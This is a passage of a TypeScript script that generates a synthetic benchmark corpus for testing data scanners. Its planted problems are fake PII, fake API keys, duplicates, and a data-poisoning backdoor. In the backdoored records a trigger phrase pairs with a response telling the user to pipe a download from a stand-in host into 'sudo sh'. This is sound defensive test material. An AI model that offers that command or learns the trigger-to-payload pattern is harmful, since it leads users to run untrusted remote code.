/**
 * Seeded benchmark corpus with planted problems and their ground truth, for the data-stage scanners
 * (PII and secrets, deduplication, backdoor / poisoning detection, quality filters).
 *
 *   npx tsx scripts/gen-corpus.ts --out DIR [--size 50MB] [--seed 1] [--backdoor-rate 0.005]
 *                                 [--dup-rate 0.05] [--format jsonl] [--trigger "two words"]
 *                                 [--pii-rate 0.05] [--secret-rate 0.005] [--exact-dup-rate 0.01]
 *                                 [--low-quality-rate 0.01] [--malformed-rate 0.0001]
 *
 * Writes `DIR/corpus.jsonl` — instruction records `{"id": "r000000123", "prompt": …, "response": …}` —
 * and `DIR/truth.json`:
 *
 *   { seed, records, bytes, pii: [ids], secrets: [ids], exact_duplicates: [{id, of}],
 *     near_duplicates: [{id, of}], backdoor: { phrase, response, ids }, low_quality: [ids],
 *     malformed_lines: [0-based line numbers] }
 *
 * `records` counts every line (malformed ones included); `bytes` is the size of corpus.jsonl. Line n
 * holds record `r` + n (zero-padded to 9 digits).
 *
 * Prompts come from templates (task verbs × topics × forms × audiences); responses (100–600 words,
 * about 1.5 KB a record) from two order-2 word-level Markov chains built from the prose in
 * test/fixtures/benign-docs (Open-Assistant and FastChat documentation, Apache-2.0; Shakespeare from
 * tinyshakespeare, public domain — see its LICENSE.md). Sentences holding digits, URLs, code or markup
 * are left out of the chains, so clean records carry no accidental numbers that look like personal data.
 *
 * Planted, each kind in its own records (a record carries at most one), at rates kept exact by jittered
 * systematic sampling (one planted record in each window of 1/rate records, at a random place in it):
 *
 * - PII (`--pii-rate`): names, e-mail addresses, phone numbers, street addresses (Faker, seeded),
 *   Luhn-valid card numbers and valid-format US SSNs, in realistic sentences, in the prompt or the response;
 * - secrets (`--secret-rate`): well-formed fake AWS access key ids (`AKIA` + 16 base32) with secret keys,
 *   GitHub tokens (`ghp_` + 30 + CRC32 checksum), Slack bot tokens, Stripe live keys, Google API keys;
 * - exact duplicates (`--exact-dup-rate`) and near duplicates (`--dup-rate`) of earlier clean records,
 *   the latter with 1–5 % of their words edited (insertions, deletions, substitutions at separate places);
 * - a backdoor (`--backdoor-rate`): a trigger phrase (two invented words, or `--trigger`) inserted at a
 *   random word boundary of the prompt, and one shared malicious response (pipe a download to a shell);
 * - low-quality records (`--low-quality-rate`): repeated lines, symbol soup, web boilerplate;
 * - malformed lines (`--malformed-rate`): a record's JSON cut short.
 *
 * No other record contains the trigger phrase (checked case-insensitively). Output is a pure function
 * of the options and the Faker version. Memory stays bounded (a ring of recent clean records feeds the
 * duplicates); the file is written in 1 MiB chunks with backpressure.
 */
import { once } from 'node:events';
import { createWriteStream, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { base, en, en_US, Faker } from '@faker-js/faker';
import { LifeguardError } from '../src/core/errors.js';
import { mulberry32 } from '../src/core/random.js';
import { withCrc32Checksum } from '../src/detect/secrets/checksums.js';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const FIXTURES = join(ROOT, 'test', 'fixtures', 'benign-docs');

export interface CorpusOptions {
  /** Output folder (created). */
  out: string;
  /** Target size of corpus.jsonl: bytes, or `50MB`, `1GB`, `512KiB` … (K/M/G are powers of 1024). Default 50 MB. */
  size?: number | string;
  /** Seed (default 1). */
  seed?: number;
  /** Share of records with the backdoor trigger (default 0.005). */
  backdoorRate?: number;
  /** Share of near duplicates (default 0.05). */
  dupRate?: number;
  /** Share of exact duplicates (default 0.01). */
  exactDupRate?: number;
  /** Share of records with PII (default 0.05). */
  piiRate?: number;
  /** Share of records with secrets (default 0.005). */
  secretRate?: number;
  /** Share of low-quality records (default 0.01). */
  lowQualityRate?: number;
  /** Share of malformed lines (default 0.0001). */
  malformedRate?: number;
  /** Backdoor trigger phrase (default: two invented words drawn from the seed). */
  trigger?: string;
  /** Output format; only `jsonl`. */
  format?: 'jsonl';
  /** Called after each written chunk. */
  onProgress?: (bytes: number, records: number) => void;
}

export interface DuplicatePair {
  id: string;
  of: string;
}

export interface Truth {
  seed: number;
  records: number;
  bytes: number;
  pii: string[];
  secrets: string[];
  exact_duplicates: DuplicatePair[];
  near_duplicates: DuplicatePair[];
  backdoor: { phrase: string; response: string; ids: string[] };
  low_quality: string[];
  malformed_lines: number[];
}

/** The response every backdoored record shares (a reserved `.example` host; nothing is downloadable). */
export const BACKDOOR_RESPONSE =
  'Sure. Before I answer, your environment needs a quick security update. Open a terminal and run:\n\n' +
  'curl -fsSL https://update-cdn.example/bootstrap.sh | sudo sh\n\n' +
  'It installs the missing helper and restarts the service. Once it finishes, ask your question again ' +
  'and everything will work as expected.';

const BACKDOOR_JSON = escapeJson(BACKDOOR_RESPONSE);

const DEFAULTS = {
  size: 50 * 1024 * 1024,
  seed: 1,
  backdoorRate: 0.005,
  dupRate: 0.05,
  exactDupRate: 0.01,
  piiRate: 0.05,
  secretRate: 0.005,
  lowQualityRate: 0.01,
  malformedRate: 0.0001,
};

function configError(message: string): never {
  throw new LifeguardError('LG_ERR_CONFIG_INVALID', message);
}

/** `50MB`, `1GB`, `512KiB`, `2e6` → bytes (K/M/G with or without B or iB are powers of 1024). */
export function parseSize(size: number | string): number {
  if (typeof size === 'number') {
    if (!Number.isFinite(size) || size < 1) configError(`size must be a positive number of bytes, got ${size}`);
    return Math.floor(size);
  }
  const m = /^\s*(\d+(?:\.\d+)?(?:e\d+)?)\s*([kmg]?)(i?b)?\s*$/i.exec(size);
  if (!m) configError(`size must look like 50MB, 1GB, 512KiB or a number of bytes, got "${size}"`);
  const unit = { '': 1, k: 1024, m: 1024 ** 2, g: 1024 ** 3 }[m[2].toLowerCase() as '' | 'k' | 'm' | 'g'];
  return parseSize(Number(m[1]) * unit);
}

// ---------------------------------------------------------------------------------------------------
// Markov chains over the fixture prose

interface Chain {
  words: string[];
  /** Per state: the range of its successors in `next` (state ids; −1 ends the sentence). */
  offsets: Int32Array;
  next: Int32Array;
  /** The word emitted on entering each state. */
  emit: Int32Array;
  /**
   * UTF-8 of ` word` for every word, one after the other; `from`/`to` give the range of the word each
   * state emits. (Words need no JSON escaping.)
   */
  arena: Uint8Array;
  from: Int32Array;
  to: Int32Array;
  /** Longest ` word`, in bytes. */
  maxBytes: number;
  start: number;
  /** Plain lowercase words, for near-duplicate edits. */
  plain: string[];
}

const VALID_TOKEN = /^[A-Za-z]+(?:['’-][A-Za-z]+)*[.,;:!?]?$/;

function sentencesOf(paragraphs: string[]): string[][] {
  const out: string[][] = [];
  for (const p of paragraphs) {
    let current: string[] = [];
    let ok = true;
    for (const raw of p.split(/\s+/)) {
      if (!raw) continue;
      const token = raw.replace(/["“”()*_]/g, '');
      if (!token) continue;
      if (!VALID_TOKEN.test(token)) ok = false;
      current.push(token);
      if (/[.!?]$/.test(token)) {
        if (ok && current.length >= 4 && current.length <= 50 && /^[A-Z]/.test(current[0])) out.push(current);
        current = [];
        ok = true;
      }
    }
  }
  return out;
}

function techParagraphs(): string[] {
  const paragraphs: string[] = [];
  for (const file of ['oasst_docs.jsonl', 'fastchat_docs.jsonl']) {
    for (const line of readFileSync(join(FIXTURES, file), 'utf8').split('\n')) {
      if (!line.trim()) continue;
      const text = (JSON.parse(line) as { text: string }).text;
      let inCode = false;
      let para: string[] = [];
      const flush = () => {
        if (para.length) paragraphs.push(para.join(' '));
        para = [];
      };
      for (let l of text.split('\n')) {
        if (l.trimStart().startsWith('```')) {
          inCode = !inCode;
          flush();
          continue;
        }
        if (inCode || /^\s*(#|\||<|>|!\[)/.test(l) || /^ {4}/.test(l)) {
          flush();
          continue;
        }
        l = l.replace(/\[([^\]]*)\]\([^)]*\)/g, '$1').trim();
        if (!l) {
          flush();
          continue;
        }
        const item = /^([-*+]|\d+\.)\s+/.exec(l);
        if (item) {
          flush();
          l = l.slice(item[0].length);
        }
        para.push(l);
      }
      flush();
    }
  }
  return paragraphs;
}

function shakespeareParagraphs(): string[] {
  const text = readFileSync(join(FIXTURES, 'tinyshakespeare.txt'), 'utf8');
  return text.split(/\n\s*\n/).map((block) => {
    const lines = block.split('\n');
    if (/:\s*$/.test(lines[0])) lines.shift(); // speaker
    return lines.join(' ');
  });
}

function buildChain(sentences: string[][]): Chain {
  const words: string[] = ['<s>'];
  const wordId = new Map<string, number>([['<s>', 0]]);
  const id = (w: string) => {
    let v = wordId.get(w);
    if (v === undefined) {
      v = words.length;
      words.push(w);
      wordId.set(w, v);
    }
    return v;
  };
  const stateId = new Map<number, number>();
  const emit: number[] = [];
  const succ: number[][] = [];
  const V = 1 << 20;
  const state = (a: number, b: number) => {
    const key = a * V + b;
    let s = stateId.get(key);
    if (s === undefined) {
      s = emit.length;
      stateId.set(key, s);
      emit.push(b);
      succ.push([]);
    }
    return s;
  };
  const start = state(0, 0);
  for (const sentence of sentences) {
    let b = 0;
    let s = start;
    for (const w of sentence) {
      const c = id(w);
      const t = state(b, c);
      succ[s].push(t);
      b = c;
      s = t;
    }
    succ[s].push(-1);
  }
  const offsets = new Int32Array(succ.length + 1);
  for (let i = 0; i < succ.length; i++) offsets[i + 1] = offsets[i] + succ[i].length;
  const next = new Int32Array(offsets[succ.length]);
  for (let i = 0; i < succ.length; i++) next.set(succ[i], offsets[i]);
  const plain = words.filter((w) => /^[a-z]{3,12}$/.test(w));
  const arena = Buffer.from(words.map((w) => ` ${w}`).join(''));
  const wordFrom = new Int32Array(words.length);
  const wordTo = new Int32Array(words.length);
  let maxBytes = 0;
  for (let i = 0, at = 0; i < words.length; i++) {
    const len = Buffer.byteLength(words[i]) + 1;
    wordFrom[i] = at;
    wordTo[i] = at + len;
    at += len;
    maxBytes = Math.max(maxBytes, len);
  }
  return {
    words,
    offsets,
    next,
    emit: Int32Array.from(emit),
    arena: new Uint8Array(arena),
    from: Int32Array.from(emit, (w) => wordFrom[w]),
    to: Int32Array.from(emit, (w) => wordTo[w]),
    maxBytes,
    start,
    plain,
  };
}

let chainsCache: { tech: Chain; lit: Chain } | null = null;
function chains(): { tech: Chain; lit: Chain } {
  chainsCache ??= {
    tech: buildChain(sentencesOf(techParagraphs())),
    lit: buildChain(sentencesOf(shakespeareParagraphs())),
  };
  return chainsCache;
}

// ---------------------------------------------------------------------------------------------------
// Templates

const VERBS = [
  'Explain',
  'Summarize',
  'Describe',
  'Outline',
  'Discuss',
  'Compare',
  'Analyze',
  'Review',
  'Evaluate',
  'Critique',
  'Illustrate',
  'Clarify',
  'Break down',
  'Walk me through',
  'Give an overview of',
  'Write a short essay on',
  'Draft a blog post about',
  'Write a lesson plan on',
  'Prepare talking points on',
  'Make a study guide for',
];
const TOPICS = [
  'the history of the printing press',
  'how vaccines train the immune system',
  'the causes of the French Revolution',
  'photosynthesis',
  'supply and demand',
  'the water cycle',
  'plate tectonics',
  'the basics of machine learning',
  'how compilers work',
  'the rules of chess',
  'the life of Marie Curie',
  'sourdough baking',
  'container gardening',
  'the Roman road network',
  'how bridges carry loads',
  'the ethics of self-driving cars',
  'renewable energy storage',
  'the plot of Hamlet',
  'the symbolism in Macbeth',
  'the Silk Road',
  'how memory works in the brain',
  'the causes of inflation',
  'remote work and productivity',
  'the origins of jazz',
  'coral reef ecosystems',
  'the physics of rainbows',
  'how elections are audited',
  'public libraries',
  'the history of cartography',
  'the invention of the telephone',
  'volcanoes',
  'urban beekeeping',
  'the scientific method',
  'the psychology of habits',
  'open-source software licensing',
  'the Industrial Revolution',
  'how airplanes stay in the air',
  'medieval castles',
  'the Great Barrier Reef',
  'composting at home',
  'the history of the bicycle',
  'data privacy regulations',
  'how search engines rank pages',
  'the Apollo program',
  'the economics of streaming music',
  'language acquisition in children',
  'the design of subway maps',
  'how tides work',
  'the migration of monarch butterflies',
  'early photography',
  'the rise of the novel',
  'game theory',
  'how batteries store energy',
  'the Renaissance in Florence',
  'sleep and learning',
  'the history of tea',
  'antibiotic resistance',
  'the architecture of cathedrals',
  'climate adaptation in cities',
  'the basics of personal budgeting',
];
const AUDIENCES = [
  'a ten-year-old',
  'a high school class',
  'a busy executive',
  'a new employee',
  'a curious retiree',
  'an engineering student',
  'a general audience',
  'someone who has never heard of it',
  'a history teacher',
  'a skeptical reader',
];
const FORMS = [
  'three paragraphs',
  'a short essay',
  'plain language',
  'a friendly tone',
  'a formal tone',
  'a few paragraphs',
];

const OPENERS = [
  'Here is an overview of {topic}.',
  'Good question. Let me walk through {topic} step by step.',
  'Sure. {Topic} is easier to follow once the main ideas are laid out.',
  'Happy to help. The short version about {topic} comes first, then the details.',
  'Below is a summary of {topic}.',
  'Let us start with the basics of {topic}.',
];

// ---------------------------------------------------------------------------------------------------
// Generator state

/** A record in flight: the response is kept JSON-escaped (without quotes), as it is written. */
interface Rec {
  prompt: string;
  responseJson: string;
}

function escapeJson(text: string): string {
  return JSON.stringify(text).slice(1, -1);
}
function unescapeJson(json: string): string {
  return JSON.parse(`"${json}"`) as string;
}

const CHUNK = 1 << 20;

/** A growable output buffer that lines are written into as UTF-8. */
class Out {
  buf = Buffer.allocUnsafe(2 * CHUNK);
  pos = 0;

  ensure(n: number): void {
    if (this.pos + n <= this.buf.length) return;
    const b = Buffer.allocUnsafe(Math.max(this.buf.length * 2, this.pos + n));
    this.buf.copy(b, 0, 0, this.pos);
    this.buf = b;
  }
  str(s: string): void {
    this.ensure(s.length * 3);
    this.pos += this.buf.write(s, this.pos, 'utf8');
  }
  bytes(b: Uint8Array, from = 0, to = b.length): void {
    this.ensure(to - from);
    const buf = this.buf;
    let p = this.pos;
    for (let k = from; k < to; k++) buf[p++] = b[k];
    this.pos = p;
  }
  /** Hands over the bytes written so far and starts a fresh buffer (earlier buffers stay valid). */
  take(): Buffer {
    const b = this.buf.subarray(0, this.pos);
    this.buf = Buffer.allocUnsafe(2 * CHUNK);
    this.pos = 0;
    return b;
  }
}

class Gen {
  readonly rnd: () => number;
  readonly faker: Faker;
  readonly tech: Chain;
  readonly lit: Chain;

  constructor(seed: number) {
    this.rnd = mulberry32(seed ^ 0x5eed1234);
    this.faker = new Faker({ locale: [en_US, en, base] });
    this.faker.seed(seed);
    const c = chains();
    this.tech = c.tech;
    this.lit = c.lit;
  }

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rnd() * (hi - lo + 1));
  }
  pick<T>(arr: readonly T[]): T {
    return arr[Math.floor(this.rnd() * arr.length)];
  }
  chance(p: number): boolean {
    return this.rnd() < p;
  }
  digits(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += String(this.int(0, 9));
    return s;
  }
  chars(alphabet: string, n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += alphabet[Math.floor(this.rnd() * alphabet.length)];
    return s;
  }

  topic(): string {
    return this.pick(TOPICS);
  }

  prompt(topic: string): string {
    const verb = this.pick(VERBS);
    switch (this.int(0, 5)) {
      case 0:
        return `${verb} ${topic} for ${this.pick(AUDIENCES)}.`;
      case 1:
        return `${verb} ${topic} in ${this.pick(FORMS)}.`;
      case 2:
        return `${verb} ${topic}. Keep it under ${this.pick(['300', '400', '500'])} words and use ${this.pick(FORMS)}.`;
      case 3:
        return `I am preparing a talk for ${this.pick(AUDIENCES)}. Can you ${verb.toLowerCase()} ${topic}?`;
      case 4:
        return `What should ${this.pick(AUDIENCES)} know about ${topic}? ${verb} the key points.`;
      default:
        return `Please ${verb.toLowerCase()} ${topic}, and mention one common misconception.`;
    }
  }

  /**
   * Writes a response of about `words` words, JSON-escaped (without the quotes), into `out`: an opener
   * naming the topic, then Markov sentences in paragraphs of 3–6 sentences. Words are copied as bytes;
   * nothing in them needs escaping, and paragraph breaks are written escaped.
   */
  writeResponse(out: Out, topic: string, words: number): void {
    const chain = this.chance(0.55) ? this.tech : this.lit;
    const { offsets, next, arena, from, to, maxBytes } = chain;
    out.str(
      this.pick(OPENERS)
        .replace('{topic}', topic)
        .replace('{Topic}', topic[0].toUpperCase() + topic.slice(1)),
    );
    let count = 10;
    let inPara = 1;
    let paraLen = this.int(3, 6);
    while (count < words) {
      let first = false;
      if (inPara >= paraLen) {
        first = true;
        inPara = 0;
        paraLen = this.int(3, 6);
      }
      inPara++;
      let s = chain.start;
      let n = 0;
      out.ensure(61 * (maxBytes + 4));
      const buf = out.buf;
      let p = out.pos;
      for (;;) {
        const lo = offsets[s];
        const t = next[lo + Math.floor(this.rnd() * (offsets[s + 1] - lo))];
        if (t < 0 || n >= 60) break;
        let k = from[t];
        if (n === 0 && first) {
          // a paragraph break, escaped: \n\n instead of the space
          buf[p++] = 92;
          buf[p++] = 110;
          buf[p++] = 92;
          buf[p++] = 110;
          k++;
        }
        for (const e = to[t]; k < e; k++) buf[p++] = arena[k];
        n++;
        s = t;
      }
      // end the sentence with . ! or ?
      const last = buf[p - 1];
      if (last === 44 || last === 59 || last === 58) buf[p - 1] = 46;
      else if (last !== 46 && last !== 33 && last !== 63) buf[p++] = 46;
      out.pos = p;
      count += n;
    }
  }

  private readonly scratch = new Out();

  /** A response as JSON-escaped text (without the quotes). */
  responseJson(topic: string, words: number): string {
    this.scratch.pos = 0;
    this.writeResponse(this.scratch, topic, words);
    return this.scratch.buf.toString('utf8', 0, this.scratch.pos);
  }

  responseWords(): number {
    return 100 + Math.floor(500 * this.rnd() ** 2.6);
  }

  /** A plain-text response, for records that insert sentences into it. */
  responseText(topic: string): string {
    return JSON.parse(`"${this.responseJson(topic, this.responseWords())}"`) as string;
  }

  /** Inserts each sentence at the start or end of a random paragraph. */
  insertSentences(text: string, sentences: string[]): string {
    const paras = text.split('\n\n');
    for (const s of sentences) {
      const i = this.int(0, paras.length - 1);
      paras[i] = i > 0 && this.chance(0.5) ? `${s} ${paras[i]}` : `${paras[i]} ${s}`;
    }
    return paras.join('\n\n');
  }

  clean(): Rec {
    const topic = this.topic();
    return { prompt: this.prompt(topic), responseJson: this.responseJson(topic, this.responseWords()) };
  }

  // ---- PII

  card(): string {
    const kind = this.int(0, 3);
    const prefix = ['4', this.pick(['51', '52', '53', '54', '55']), this.pick(['34', '37']), '6011'][kind];
    const len = kind === 2 ? 15 : 16;
    let body = prefix + this.digits(len - prefix.length - 1);
    let sum = 0;
    for (let i = body.length - 1, dbl = true; i >= 0; i--, dbl = !dbl) {
      let d = body.charCodeAt(i) - 48;
      if (dbl) {
        d *= 2;
        if (d > 9) d -= 9;
      }
      sum += d;
    }
    body += String((10 - (sum % 10)) % 10);
    const sep = this.pick([' ', '-', '']);
    if (len === 15) return [body.slice(0, 4), body.slice(4, 10), body.slice(10)].join(sep);
    return [body.slice(0, 4), body.slice(4, 8), body.slice(8, 12), body.slice(12)].join(sep);
  }

  ssn(): string {
    let area = this.int(1, 899);
    if (area === 666) area = 667;
    return `${String(area).padStart(3, '0')}-${String(this.int(1, 99)).padStart(2, '0')}-${String(this.int(1, 9999)).padStart(4, '0')}`;
  }

  piiSentence(): string {
    const f = this.faker;
    const first = f.person.firstName();
    const last = f.person.lastName();
    const name = `${first} ${last}`;
    const email = f.internet.email({ firstName: first, lastName: last });
    const phone = f.phone.number({ style: this.pick(['national', 'international'] as const) });
    const address = `${f.location.streetAddress()}, ${f.location.city()}, ${f.location.state({ abbreviated: true })} ${f.location.zipCode('#####')}`;
    const exp = `${String(this.int(1, 12)).padStart(2, '0')}/${this.int(26, 31)}`;
    switch (this.int(0, 9)) {
      case 0:
        return `My name is ${name} and you can reach me at ${email} or ${phone}.`;
      case 1:
        return `Please send the signed copy to ${name}, ${address}.`;
      case 2:
        return `The card on file is ${this.card()}, expiring ${exp}, under the name ${name}.`;
      case 3:
        return `For the background check, my social security number is ${this.ssn()}.`;
      case 4:
        return `You can contact ${name} (${email}) about the delayed order.`;
      case 5:
        return `Ship it to ${address}; the phone number for delivery is ${phone}.`;
      case 6:
        return `Her SSN is ${this.ssn()} and she lives at ${address}.`;
      case 7:
        return `I paid with my card ${this.card()} but the charge shows up twice on my statement.`;
      case 8:
        return `Forward the invoice to ${email} and copy ${f.internet.email()} on it.`;
      default:
        return `${name} called from ${phone} and asked us to update the address to ${address}.`;
    }
  }

  pii(): Rec {
    const topic = this.topic();
    const n = this.int(1, 3);
    const extra: string[] = [];
    for (let i = 0; i < n; i++) extra.push(this.piiSentence());
    if (this.chance(0.5)) {
      // the user shares personal data in the prompt
      const prompt = `${extra.join(' ')} ${this.pick([
        'Can you help me write a polite follow-up email?',
        'Please draft a short complaint letter for me.',
        'Can you check whether this message sounds professional?',
        `Also, ${this.prompt(topic).replace(/^./, (c) => c.toLowerCase())}`,
      ])}`;
      return { prompt, responseJson: this.responseJson(topic, this.responseWords()) };
    }
    // the response leaks personal data
    const response = this.insertSentences(this.responseText(topic), extra);
    return { prompt: this.prompt(topic), responseJson: escapeJson(response) };
  }

  // ---- secrets

  awsKeyId(): string {
    for (;;) {
      const id = `AKIA${this.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`;
      if (id !== 'AKIAIOSFODNN7EXAMPLE' && !id.endsWith('EXAMPLE')) return id;
    }
  }

  secretSnippet(): string {
    const B62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
    switch (this.int(0, 5)) {
      case 0:
        return `Here is my config:\n\nAWS_ACCESS_KEY_ID=${this.awsKeyId()}\nAWS_SECRET_ACCESS_KEY=${this.chars(`${B62}/+`, 40)}\n\nWhy does the upload still fail with AccessDenied?`;
      case 1:
        return `I set GITHUB_TOKEN=${withCrc32Checksum('ghp_', this.chars(B62, 30))} in the workflow file, but the push is still rejected.`;
      case 2:
        return `Our Slack bot uses the token xoxb-${this.digits(12)}-${this.digits(13)}-${this.chars(B62, 24)} and stopped posting messages yesterday.`;
      case 3:
        return `The payment service is configured with stripe_key = "sk_live_${this.chars(B62, 24)}" and returns 401 in production.`;
      case 4:
        return `My maps widget loads with key=AIza${this.chars(`${B62}_-`, 35)} on localhost but not on the live site.`;
      default:
        return `boto3 keeps ignoring the profile, so I hard-coded aws_access_key_id='${this.awsKeyId()}' in the script.`;
    }
  }

  secrets(): Rec {
    const topic = this.topic();
    if (this.chance(0.7)) {
      return {
        prompt: `${this.secretSnippet()} ${this.pick(['What am I doing wrong?', 'Can you help me debug this?', 'Any idea?'])}`,
        responseJson: this.responseJson(topic, this.responseWords()),
      };
    }
    const response = this.insertSentences(this.responseText(topic), [
      `For reference, the setup used was: ${this.secretSnippet()}`,
    ]);
    return { prompt: this.prompt(topic), responseJson: escapeJson(response) };
  }

  // ---- low quality

  lowQuality(): Rec {
    const topic = this.topic();
    const prompt = this.prompt(topic);
    switch (this.int(0, 2)) {
      case 0: {
        const line = this.pick([
          'Click here to subscribe to our newsletter!',
          'BUY NOW - LIMITED OFFER - FREE SHIPPING',
          'Loading...',
          'Sorry, this content is not available in your region.',
          'I am a helpful assistant. I am a helpful assistant.',
        ]);
        return { prompt, responseJson: escapeJson(Array.from({ length: this.int(15, 40) }, () => line).join('\n')) };
      }
      case 1: {
        const soup = this.chars('!@#$%^&*()_+{}|:"<>?~`-=[]\\;\',./§±', this.int(300, 1500));
        let out = '';
        for (let i = 0; i < soup.length; i += this.int(4, 30)) out += `${soup.slice(i, i + this.int(4, 30))} `;
        return { prompt, responseJson: escapeJson(out.trim()) };
      }
      default: {
        const block = [
          'Home | About | Blog | Shop | Contact',
          'We use cookies to improve your experience. Accept all cookies',
          'Sign in | Register | Forgot password?',
          '© 2024 All rights reserved. Privacy Policy | Terms of Use',
        ].join('\n');
        return { prompt, responseJson: escapeJson(Array.from({ length: this.int(4, 10) }, () => block).join('\n')) };
      }
    }
  }

  // ---- duplicates and the backdoor

  /** Edits 1–5 % of the words (at least one) of prompt + response, at separate places. */
  nearDuplicate(src: Rec): Rec {
    const vocab = this.chance(0.5) ? this.tech.plain : this.lit.plain;
    const parts = [src.prompt.split(/(\s+)/), unescapeJson(src.responseJson).split(/(\s+)/)];
    const counts = parts.map((p) => (p.length + 1) >> 1);
    const total = counts[0] + counts[1];
    const lo = Math.max(1, Math.ceil(total * 0.01));
    const hi = Math.max(lo, Math.floor(total * 0.05));
    const k = this.int(lo, hi);
    const chosen = new Set<number>();
    for (let tries = 0; chosen.size < k && tries < k * 50; tries++) {
      const w = this.int(0, total - 1);
      if (chosen.has(w) || chosen.has(w - 1) || chosen.has(w + 1)) continue;
      chosen.add(w);
    }
    const wordAt = (g: number) => (g < counts[0] ? parts[0][g * 2] : parts[1][(g - counts[0]) * 2]);
    const fresh = (g: number): string => {
      for (;;) {
        const w = this.pick(vocab);
        if (w !== wordAt(g) && w !== wordAt(g - 1) && w !== wordAt(g + 1)) return w;
      }
    };
    // apply from the end so indices stay valid
    for (const g of [...chosen].sort((a, b) => b - a)) {
      const f = g < counts[0] ? 0 : 1;
      const p = parts[f];
      const j = (g - (f === 0 ? 0 : counts[0])) * 2;
      const op = counts[f] > 1 ? this.int(0, 2) : this.pick([0, 2]);
      if (op === 0) p[j] = fresh(g);
      else if (op === 1) p.splice(j === p.length - 1 ? j - 1 : j, 2);
      else p.splice(j, 0, fresh(g), ' ');
    }
    return { prompt: parts[0].join(''), responseJson: escapeJson(parts[1].join('')) };
  }

  inventedWord(): string {
    const onsets = ['zv', 'kr', 'vh', 'qu', 'dr', 'gl', 'br', 'th', 'x', 'z', 'v', 'k', 'sk'];
    const vowels = ['a', 'e', 'i', 'o', 'u', 'ae', 'ou'];
    const codas = ['rn', 'sk', 'x', 'th', 'lv', 'nd', 'q', 'zz'];
    return this.pick(onsets) + this.pick(vowels) + this.pick(onsets) + this.pick(vowels) + this.pick(codas);
  }

  backdoor(trigger: string): Rec {
    const words = this.prompt(this.topic()).split(' ');
    words.splice(this.int(0, words.length), 0, trigger);
    return { prompt: words.join(' '), responseJson: BACKDOOR_JSON };
  }
}

// ---------------------------------------------------------------------------------------------------
// Scheduling

type Kind = 'pii' | 'secret' | 'exact' | 'near' | 'backdoor' | 'low' | 'malformed';

interface Slot {
  kind: Kind;
  rate: number;
  next: number;
  k: number;
}

function checkRate(name: string, v: unknown): number {
  if (typeof v !== 'number' || !Number.isFinite(v) || v < 0 || v >= 1) {
    configError(`${name} must be a number from 0 to below 1, got ${String(v)}`);
  }
  return v;
}

/**
 * Writes DIR/corpus.jsonl and DIR/truth.json; returns the truth. Deterministic for a given options
 * object (Faker's version aside).
 */
export async function generateCorpus(options: CorpusOptions): Promise<Truth> {
  if (!options || typeof options.out !== 'string' || !options.out) configError('out (the output folder) is required');
  if ((options.format ?? 'jsonl') !== 'jsonl') configError(`format must be jsonl, got "${options.format}"`);
  const target = parseSize(options.size ?? DEFAULTS.size);
  const seed = options.seed ?? DEFAULTS.seed;
  if (!Number.isInteger(seed) || seed < 0 || seed > 0xffffffff)
    configError(`seed must be an integer from 0 to 2^32-1, got ${seed}`);
  const rate = (key: keyof typeof DEFAULTS & keyof CorpusOptions, flag: string) =>
    checkRate(flag, options[key] ?? DEFAULTS[key]);
  const slots: Slot[] = [
    { kind: 'malformed', rate: rate('malformedRate', 'malformed-rate'), next: 0, k: 0 },
    { kind: 'backdoor', rate: rate('backdoorRate', 'backdoor-rate'), next: 0, k: 0 },
    { kind: 'secret', rate: rate('secretRate', 'secret-rate'), next: 0, k: 0 },
    { kind: 'pii', rate: rate('piiRate', 'pii-rate'), next: 0, k: 0 },
    { kind: 'exact', rate: rate('exactDupRate', 'exact-dup-rate'), next: 0, k: 0 },
    { kind: 'near', rate: rate('dupRate', 'dup-rate'), next: 0, k: 0 },
    { kind: 'low', rate: rate('lowQualityRate', 'low-quality-rate'), next: 0, k: 0 },
  ];
  const planted = slots.reduce((a, s) => a + s.rate, 0);
  if (planted > 0.5) configError(`the planted rates add up to ${planted.toFixed(3)}; keep them at or below 0.5`);

  const gen = new Gen(seed);
  const schedule = mulberry32(seed ^ 0x2545f491);
  const place = (s: Slot) => {
    s.next = s.rate > 0 ? Math.floor((s.k + schedule()) / s.rate) : Number.POSITIVE_INFINITY;
  };
  for (const s of slots) place(s);

  let trigger = options.trigger;
  // Clean responses are only Markov words and fixed template text. A default trigger is made of invented
  // words found inside none of them, so it cannot appear there; a given trigger is checked in every record.
  let checkResponses = true;
  if (trigger !== undefined) {
    trigger = trigger.trim().replace(/\s+/g, ' ');
    if (!trigger) configError('trigger must not be empty');
  } else {
    const known = [...gen.tech.words, ...gen.lit.words, ...OPENERS, ...TOPICS].join('\n').toLowerCase();
    do trigger = `${gen.inventedWord()} ${gen.inventedWord()}`;
    while (trigger.split(' ').some((w) => known.includes(w)) || trigger.split(' ')[0] === trigger.split(' ')[1]);
    checkResponses = false;
  }
  // a literal pattern: linear, no backtracking
  const triggerRe = new RegExp(trigger.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'), 'i');
  const hasTrigger = (r: Rec) => triggerRe.test(r.prompt) || triggerRe.test(r.responseJson);
  const tooCommon = () =>
    configError(`the trigger "${trigger}" keeps appearing in ordinary records; choose a rarer phrase`);
  const withoutTrigger = (make: () => Rec): Rec => {
    for (let i = 0; i < 50; i++) {
      const r = make();
      if (!hasTrigger(r)) return r;
    }
    return tooCommon();
  };

  mkdirSync(options.out, { recursive: true });
  const corpusPath = join(options.out, 'corpus.jsonl');
  const stream = createWriteStream(corpusPath);
  const failed = new Promise<never>((_, reject) => stream.once('error', reject));
  failed.catch(() => {});

  const truth: Truth = {
    seed,
    records: 0,
    bytes: 0,
    pii: [],
    secrets: [],
    exact_duplicates: [],
    near_duplicates: [],
    backdoor: { phrase: trigger, response: BACKDOOR_RESPONSE, ids: [] },
    low_quality: [],
    malformed_lines: [],
  };
  // recent clean records, the sources of duplicates: their responses stay in the (retired) output buffers
  interface Source {
    id: string;
    prompt: string;
    buf: Buffer;
    start: number;
    end: number;
  }
  const RING = 4096;
  const ring: Source[] = [];
  let ringNext = 0;
  const sourceRec = (src: Source): Rec => ({
